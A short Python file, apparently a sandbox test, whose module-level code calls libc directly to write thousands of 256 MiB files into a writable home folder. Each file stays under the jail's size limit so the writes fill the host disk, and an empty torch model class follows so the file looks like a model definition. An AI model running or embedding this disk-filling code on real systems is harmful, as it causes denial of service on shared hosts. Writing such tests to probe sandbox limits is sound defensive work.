"""Fills the disk from its writable home: file after file, each under the jail's file-size limit, through
libc (the home is a host folder; nothing but the parent's watchdog bounds its total)."""
import ctypes
import os

from torch import nn

libc = ctypes.CDLL(None, use_errno=True)
block = b"\0" * (1 << 20)
for k in range(100_000):
    fd = libc.open(f"/home/fercomp/fill-{k}".encode(), os.O_WRONLY | os.O_CREAT, 0o644)
    for _ in range(256):
        libc.write(fd, block, len(block))
    libc.close(fd)


class Net(nn.Module):
    pass
